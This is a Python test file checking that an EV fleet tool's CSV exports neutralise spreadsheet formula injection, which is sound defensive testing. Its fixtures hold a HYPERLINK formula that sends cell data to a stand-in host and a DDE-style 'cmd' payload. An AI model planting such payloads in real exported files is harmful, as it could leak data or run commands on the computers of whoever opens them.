"""CSV output cannot carry a spreadsheet formula (OWASP "CSV Injection"): ids,
cycle, vehicle and route names that start with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return reach every CSV output with a leading apostrophe, while numbers (-3.5
among them) stay numbers. Each through the command line, with names an operator's data
can hold: a logger's vehicle id, a cycle file's name, a vehicle file's name."""

from __future__ import annotations

import csv
import io
import json
import re

import numpy as np
import pytest
from typer.testing import CliRunner

from cevm.text import FORMULA_PREFIXES, csv_safe
from test_ingest import write_srf

runner = CliRunner()
EVIL_ID = '=HYPERLINK("http://x.example/?"&A1,"click")'
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def cevm(*args):
    from cevm.cli import app

    res = runner.invoke(app, [str(a) for a in args])
    assert res.exception is None or isinstance(res.exception, SystemExit), (args, res.exception, res.output)
    return res


def test_formula_prefixes_get_an_apostrophe_and_numbers_do_not():
    for text in ("=1+1", "+41 79 000", "-EB-07", "@SUM(A1:A9)", "-2+3", "=cmd|' /C calc'!A0", "-", "+"):
        assert csv_safe(text) == "'" + text
    for text in ("-3.5", "+2", "-1e-3", "12", ".5", "EB-07", "a=b", "", "'=x"):
        assert csv_safe(text) == text
    assert csv_safe("\t=x") == "\\t=x" and csv_safe("\r@x") == "\\r@x"  # escaped first: no tab or CR is left


def cells(csv_text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text)))


def assert_safe(csv_text: str) -> list[list[str]]:
    """No cell of the CSV starts a formula: each either starts with none of the prefixes,
    or is a plain number."""
    rows = cells(csv_text)
    assert rows, csv_text
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES) or PLAIN_NUMBER.fullmatch(cell), (cell, row)
    return rows


@pytest.fixture
def hostile(tmp_path):
    """A store whose vehicle id (so its trip ids) is a formula, a cycle file named like a
    formula and going downhill (an EV's energy is negative: a number starting with '-'),
    a vehicle file named like one, and a route of them."""
    log = tmp_path / "logs" / "a.csv"
    log.parent.mkdir()
    write_srf(log, EVIL_ID, 1_557_820_800, 1, n=600)
    db = tmp_path / "s.sqlite"
    assert cevm("ingest", log, "--store", db, "--workers", "1", "-q").exit_code == 0
    t = np.arange(0, 601)
    cycle = tmp_path / "-2+3.csv"  # its name is the cycle's name
    cycle.write_text("time_s,speed_kmh,elevation_m\n" + "".join(f"{s},{36 if 10 < s < 590 else 0},{300 - 0.3 * s:.2f}\n"
                                                               for s in t))
    from fleet_store import BUS

    bus = tmp_path / "bus.toml"
    bus.write_text('id = "+bus"\n' + BUS.read_text().replace('name = "', 'name = "@SUM(1+1) ', 1))
    assert cevm("route", "add", "R1", "--cycle", cycle, "--store", db).exit_code == 0
    return db, cycle, bus


@pytest.mark.slow
def test_every_csv_output_neutralises_formulas_and_keeps_negative_numbers(hostile):
    db, cycle, bus = hostile
    trips = assert_safe(cevm("trips", "--store", db, "-f", "csv").stdout)
    head = trips[0]
    assert trips[1][head.index("vehicle_id")] == "'" + EVIL_ID
    trip_id = json.loads(cevm("trips", "--store", db, "-f", "json").stdout)[0]["trip_id"]
    assert trip_id.startswith("=HYPERLINK")  # JSON keeps the exact value

    res = cevm("predict", "-v", bus, "-c", cycle, "--trip", trip_id, "--store", db, "-f", "csv")
    assert res.exit_code == 0, res.stderr
    rows = assert_safe(res.stdout)
    head, by_cycle = rows[0], {r[0]: r for r in rows[1:]}
    assert set(by_cycle) == {"'-2+3", "'" + trip_id}
    downhill = by_cycle["'-2+3"]
    assert downhill[head.index("vehicle")].startswith("'@SUM(1+1) ")
    assert downhill[head.index("vehicle_key")] == "'+bus"
    energy = downhill[head.index("energy_kwh")]
    assert energy.startswith("-") and float(energy) < 0  # a negative number stays a number

    for args in (("feasibility", "-v", bus, "-c", cycle, "--trip", trip_id),
                 ("predict", "-v", bus, "--route", "R1", "--vehicle-id", EVIL_ID, "--range"),
                 ("route", "list"), ("store", "check"), ("store", "info")):
        res = cevm(*args, "--store", db, "-f", "csv")
        assert res.exit_code == 0, (args, res.stderr)
        assert_safe(res.stdout)
    listed = cells(cevm("route", "list", "--store", db, "-f", "csv").stdout)
    assert listed[1][listed[0].index("sources")] == "cycle:-2+3"  # not at the start of its cell: no formula
